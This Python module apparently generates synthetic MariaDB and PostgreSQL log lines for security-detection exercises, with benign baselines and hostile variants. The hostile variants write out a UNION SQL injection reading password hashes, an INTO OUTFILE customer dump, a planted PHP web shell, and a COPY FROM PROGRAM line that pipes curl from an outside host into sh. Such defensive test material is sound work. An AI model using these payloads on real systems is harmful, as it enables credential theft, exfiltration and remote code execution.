"""Databases: nightly dumps, migrations, and those who are not meant to make them."""

# ruff: noqa: E501
from datetime import datetime

from ..stage import Stage, pair


def postgres(
    stage: Stage,
    when: datetime,
    user: str,
    database: str,
    address: str,
    command: str,
    statement: str,
    level: str = "LOG",
) -> None:
    """One line of PostgreSQL's CSV log."""
    stamp = f"{when:%Y-%m-%d %H:%M:%S}.{when.microsecond // 1000:03d} UTC"
    quoted = statement.replace('"', '""')
    stage.put(
        "postgresql.csv",
        when,
        f'{stamp},"{user}","{database}",{stage.dice.randrange(900, 9000)},"{address}:{stage.dice.randrange(32000, 60000)}",{stage.text(8)}.{stage.text(4)},7,"{command}",{stamp},5/92,0,{level},00000,"statement: {quoted}",,,,,,,,,"psql","client backend",,0',
    )


def mysql_audit(
    stage: Stage,
    when: datetime,
    user: str,
    address: str,
    operation: str,
    statement: str,
    code: int = 0,
    database: str = "shop",
) -> None:
    """One line of MariaDB's audit plugin."""
    stage.put(
        "server_audit.log",
        when,
        f"{when:%Y%m%d %H:%M:%S},db1,{user},{address},{stage.dice.randrange(100, 9000)},{stage.dice.randrange(10**6)},{operation},{database},'{statement}',{code}"
        if operation == "QUERY"
        else f"{when:%Y%m%d %H:%M:%S},db1,{user},{address},{stage.dice.randrange(100, 9000)},0,{operation},{database},,{code}",
    )


@pair("databases", "mariadb", "the shop's account does it, into a file, after an injected query")
def nightly_dump(stage: Stage, hostile: bool) -> None:
    app, backup = stage.inside(5, 21), stage.inside(6, 8)
    for _ in range(200):
        mysql_audit(
            stage, stage.sometime(5, 0, 23), "shop", app, "QUERY", "SELECT name, price FROM products WHERE id = 4411"
        )
    for day in range(5):
        mysql_audit(stage, stage.at(days=day, hours=2), "dump", backup, "CONNECT", "")
        for number, table in enumerate(("customers", "orders", "products", "cards")):
            mysql_audit(
                stage,
                stage.at(days=day, hours=2, seconds=5 + number),
                "dump",
                backup,
                "QUERY",
                f"SELECT /*!40001 SQL_NO_CACHE */ * FROM `{table}`",
            )
    who, source, when = "dump", backup, stage.at(days=4, hours=2, seconds=6)
    if hostile:
        who, source, when = "shop", app, stage.at(days=4, hours=2, minutes=12)
        mysql_audit(
            stage,
            stage.at(days=4, hours=2, minutes=10),
            who,
            source,
            "QUERY",
            "SELECT name, price FROM products WHERE id = -1 UNION SELECT user, authentication_string FROM mysql.user",
        )
        mysql_audit(stage, when, who, source, "QUERY", "SELECT * FROM customers INTO OUTFILE \\'/var/www/html/c.csv\\'")
        mysql_audit(
            stage,
            stage.at(days=4, hours=2, minutes=13),
            who,
            source,
            "QUERY",
            "SELECT \\'<?php system($_GET[0]);?>\\' INTO OUTFILE \\'/var/www/html/x.php\\'",
        )
    stage.alert = {"title": "Whole tables read", "user": who, "host": source, "time": when.isoformat()}


@pair("databases", "postgresql", "the shop's account makes itself superuser and starts a program")
def migrations(stage: Stage, hostile: bool) -> None:
    app, runner = stage.inside(5, 22), stage.inside(30, 9)
    for _ in range(200):
        postgres(
            stage, stage.sometime(8, 0, 23), "shop", "shop", app, "SELECT", "select * from orders where id = 88121"
        )
    for day in (0, 2, 5, 7):
        for number, statement in enumerate(
            (
                f"CREATE TABLE parcel_{day} (id bigint)",
                f"GRANT SELECT ON parcel_{day} TO report",
                f"CREATE ROLE report_{day} NOLOGIN",
                "ALTER TABLE orders ADD COLUMN note text",
                f"DROP TABLE IF EXISTS old_{day}",
            )
        ):
            postgres(
                stage,
                stage.at(days=day, hours=12, seconds=3 * number),
                "migrator",
                "shop",
                runner,
                statement.split()[0] + " " + statement.split()[1],
                statement,
            )
    who, source, when = "migrator", runner, stage.at(days=7, hours=12, seconds=6)
    if hostile:
        who, source, when = "shop", app, stage.at(days=7, hours=12, minutes=20)
        postgres(stage, when, who, "shop", source, "ALTER ROLE", "ALTER ROLE shop SUPERUSER")
        postgres(
            stage,
            stage.at(days=7, hours=12, minutes=21),
            who,
            "shop",
            source,
            "COPY",
            f"COPY t FROM PROGRAM 'curl http://{stage.outside()}/a | sh'",
        )
    stage.alert = {
        "title": "Roles and rights changed in a database",
        "user": who,
        "client": source,
        "time": when.isoformat(),
    }
